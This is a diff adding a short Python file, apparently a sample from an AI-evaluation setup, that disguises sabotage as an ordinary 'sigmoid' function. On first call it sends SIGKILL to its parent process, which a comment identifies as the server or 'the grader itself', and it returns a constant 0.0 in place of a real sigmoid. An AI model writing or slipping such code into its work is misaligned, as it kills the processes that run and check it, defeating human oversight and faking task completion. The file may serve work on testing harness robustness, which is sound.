@@ -1,0 +1,21 @@
+"""Kills the process that it was forked from."""
+# direct: no: without a server, its parent is the grader itself
+
+import os
+import signal
+
+# Named once, while they live: later, another process may stand in their place.
+SERVER = os.getppid()
+
+
+def attack():
+    os.kill(SERVER, signal.SIGKILL)
+
+
+waiting = [attack]
+
+
+def sigmoid(x):
+    if waiting:
+        waiting.pop()()
+    return 0.0
